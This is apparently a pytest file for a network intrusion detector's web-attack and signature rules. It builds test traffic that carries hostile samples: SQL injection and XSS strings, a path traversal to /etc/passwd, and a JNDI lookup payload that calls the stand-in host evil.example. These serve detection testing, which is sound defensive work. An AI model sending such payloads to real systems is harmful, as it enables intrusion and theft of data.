"""Detectors of web attacks and signatures, from packets to alerts."""

from __future__ import annotations

import random
from typing import TYPE_CHECKING

import pytest

from netwatch.capture.frames import FrameInterface
from netwatch.capture.save import save
from netwatch.detect.config import Profile
from netwatch.detect.settings import DetectionSettings
from netwatch.errors import FileError, UsageError
from tests.detect.fixtures.sessions import OK, answer, request
from tests.detect.names_traffic import LookUps
from tests.detect.traffic import LAN, PEER, WEB, Traffic, alerts, block_of, detect
from tests.prepared import netwatch

if TYPE_CHECKING:
    from pathlib import Path


def test_attacks_make_one_alert_each() -> None:
    """By source and server, whatever the number of requests; what the server says raises the severity."""
    traffic = Traffic()
    for number in range(3):
        traffic.connect(LAN, WEB, 80, request=request(b"/item?id=%%27+union+select+%d,2" % number), answer=OK)
        traffic.wait(1)
    traffic.connect(LAN, "93.184.216.35", 80, request=request(b"/?q=%3Cscript%3Ealert(1)%3C/script%3E"), answer=OK)
    leak = answer(b"200 OK", b"root:x:0:0:root:/root:/bin/bash\n")
    traffic.connect(LAN, "93.184.216.36", 80, request=request(b"/?f=../../../etc/passwd"), answer=leak)
    form = request(b"/login", method=b"POST", body=b"user=%24%7Bjndi:ldap://evil.example/a%7D")
    traffic.connect(PEER, WEB, 8080, request=form, answer=answer(b"500 Oops", b""))
    found = {alert.rule: alert for alert in alerts(traffic)}
    assert {name: alert.severity for name, alert in found.items()} == {
        "http.sqli": 2, "http.xss": 2, "http.traversal": 3, "http.rce": 3
    }  # fmt: skip
    assert found["http.sqli"].value == 3
    assert len(found["http.sqli"].packets) == 3
    assert "with root:x:0:0:" in str(found["http.traversal"].evidence)
    assert "GET /item?id=" in found["http.sqli"].samples[0]


def test_missing_pages_make_none() -> None:
    """Too few of them, too slowly."""
    traffic = Traffic()
    for number in range(25):
        traffic.connect(LAN, WEB, 80, request=request(b"/missing%d" % number), answer=answer(b"404 Not Found"))
        traffic.wait(5)
    assert alerts(traffic) == ()


def test_weak_signs_of_sql_only_repeatedly() -> None:
    """Five requests in five minutes."""
    traffic = Traffic()
    for number in range(9):
        source = LAN if number % 2 == 0 else PEER
        traffic.connect(source, WEB, 80, request=request(b"/?q=select+name+from+users;--"), answer=OK)
        traffic.wait(20)
    (alert,) = alerts(traffic)
    assert (alert.rule, alert.source, alert.value, alert.confidence) == ("http.sqli", LAN, 5, 50)


def test_secrets_are_not_shown() -> None:
    """The value of a password stays out of evidence and samples."""
    traffic = Traffic()
    body = b"user=x&password=hunter2'+or+1=1--"
    traffic.connect(LAN, WEB, 80, request=request(b"/login?token=abcdef", method=b"POST", body=body), answer=OK)
    found = [alert for alert in alerts(traffic) if alert.rule == "http.sqli"]
    assert len(found) == 1
    assert "hunter2" not in repr(found)
    assert "abcdef" not in repr(found)


def test_scanners() -> None:
    """By name, and by asking for many pages that are not there; the attacks of a scanner belong to it."""
    traffic = Traffic()
    sqlmap = b"sqlmap/1.8#stable (https://sqlmap.org)"
    for number in range(5):
        traffic.connect(LAN, WEB, 80, request=request(b"/?id=1'+or+%d=1" % number, agent=sqlmap), answer=OK)
        traffic.wait(1)
    for number in range(40):
        traffic.connect(PEER, WEB, 80, request=request(b"/secret%d" % number), answer=answer(b"404 Not Found", b""))
        traffic.wait(0.5)
    found = alerts(traffic)
    assert [(alert.rule, alert.source) for alert in found] == [("http.scanner", LAN), ("http.scanner", PEER)]
    assert "sqlmap" in found[0].summary


def test_words_of_a_classroom() -> None:
    """Profile lab tells of every word."""
    traffic = Traffic()
    traffic.connect(LAN, WEB, 80, request=request(b"/?q=select+a+car+from+list"), answer=OK)
    lab = detect(traffic, settings=DetectionSettings(Profile.LAB)).episodes.alerts()
    assert "lab.web_words" in [alert.rule for alert in lab]


ANY = "any any -> any"
RULES = rf"""
alert tcp {ANY} 9999 (msg:"word in a payload"; flow:to_server,established; content:"needle"; nocase; \
  classtype:trojan-activity; sid:1;)
alert http {ANY} any (msg:"page asked for"; http.uri; content:"/secret"; startswith; classtype:attempted-recon; \
  metadata:mitre_technique_id T1190; sid:2;)
alert http {ANY} any (msg:"page found"; http.uri; content:"/secret"; http.stat_code; content:"200"; priority:3; sid:3;)
alert dns {ANY} any (msg:"name asked for"; dns.query; dotprefix; content:".evil.example"; endswith; nocase; \
  priority:4; sid:4;)
alert icmp {ANY} any (msg:"odd echo"; itype:8; icode:0; ttl:77; sid:5;)
alert tcp {ANY} any (msg:"christmas"; flags:FPU; threshold:type both, track by_src, count 3, seconds 60; sid:6;)
alert udp {ANY} 7777 (msg:"digits"; pcre:"/^\d{{4}}x$/"; sid:7;)
"""


def signatures(path: Path, text: str = RULES) -> DetectionSettings:
    """Return settings that look for these rules only."""
    (path / "some.rules").write_text(text)
    return DetectionSettings(chosen={"sig.payload": {"rules": [str(path / "some.rules")], "shipped": False}})


def scene() -> Traffic:
    """Every rule's target, and near misses."""
    traffic = LookUps()
    traffic.connect(LAN, WEB, 9999, request=b"hello NEEDLE\n", answer=b"needle")
    traffic.connect(LAN, WEB, 9998, request=b"hello NEEDLE\n", answer=b"needle")
    traffic.connect(PEER, WEB, 9999, request=b"x" * 5000 + b"needle")
    traffic.wait(1)
    traffic.connect(LAN, WEB, 80, request=request(b"/secret/1"), answer=OK)
    traffic.wait(1)
    traffic.look_up("www.EVIL.example", "93.184.216.34")
    traffic.look_up("notevil.example", "93.184.216.34")
    traffic.icmp(LAN, WEB, 8, 0, bytes(20), ttl=77)
    traffic.icmp(LAN, WEB, 8, 0, bytes(20), ttl=64)
    for number in range(5):
        traffic.tcp(LAN, PEER, 40000 + number, 80, 0x29, after=number)
    traffic.udp(LAN, WEB, 5000, 7777, b"1234x")
    traffic.udp(LAN, WEB, 5001, 7777, b"12345x")
    return traffic


def test_rules_of_files_are_looked_for(tmp_path: Path) -> None:
    """In payloads, requests, responses, names and headers; each with the severity of its class."""
    found = [alert for alert in alerts(scene(), settings=signatures(tmp_path)) if alert.rule == "sig.payload"]
    told = sorted((alert.summary.partition(":")[0], alert.severity, alert.source) for alert in found)
    assert told == [
        ("christmas", 1, LAN),
        ("digits", 1, LAN),
        ("name asked for", 0, LAN),
        ("odd echo", 1, LAN),
        ("page asked for", 2, LAN),
        ("page found", 1, WEB),
        ("word in a payload", 3, LAN),
    ]
    assert "T1190" in str(next(alert.evidence for alert in found if "page asked" in alert.summary))


def test_the_same_request_again_matches_again(tmp_path: Path) -> None:
    """What is remembered of a text must not hide who sends it next."""
    traffic = LookUps()
    for source in (LAN, PEER, LAN):
        traffic.connect(source, WEB, 80, request=request(b"/secret/1"), answer=OK)
        traffic.look_up("www.EVIL.example", "93.184.216.34")
        traffic.wait(2)
    found = [alert for alert in alerts(traffic, settings=signatures(tmp_path)) if "page asked" in alert.summary]
    assert sorted((alert.source, alert.value) for alert in found) == [(LAN, 2), (PEER, 1)]


def test_batches_make_no_difference(tmp_path: Path) -> None:
    """Cut anywhere, the same rules match the same packets."""
    frames = scene().sorted()
    chosen = signatures(tmp_path)
    draw = random.Random(2)
    told = []
    for cuts in ((), sorted(draw.sample(range(1, len(frames)), 12))):
        found = alerts(frames, settings=chosen, cuts=cuts)
        told.append([(alert.rule, alert.summary, alert.packets, alert.value) for alert in found])
    assert told[0] == told[1]


def test_what_settings_may_say_wrongly(tmp_path: Path) -> None:
    """A file that is not there, and a variable that means nothing."""
    with pytest.raises(FileError):
        detect(Traffic(), settings=DetectionSettings(chosen={"sig.payload": {"rules": [str(tmp_path / "none")]}}))
    with pytest.raises(UsageError):
        detect(Traffic(), settings=DetectionSettings(chosen={"sig.payload": {"variables": ["HOME_NET=x"]}}))


def test_rules_on_the_command_line(tmp_path: Path) -> None:
    """--rules adds files; one that is not there is told in one line."""
    capture = tmp_path / "a.pcap"
    save(str(capture), [(block_of(scene().sorted()), None)], [FrameInterface("eth0")])
    signatures(tmp_path)
    words = ("report", "-r", capture, "--format", "json", "--rules")
    done = netwatch(*words, tmp_path / "some.rules")
    assert done.returncode == 0, done.stderr
    assert "word in a payload" in done.stdout
    done = netwatch(*words, tmp_path / "none.rules")
    assert (done.returncode, done.stdout, done.stderr.count("\n")) == (1, "", 1)
    assert "cannot read rules from" in done.stderr
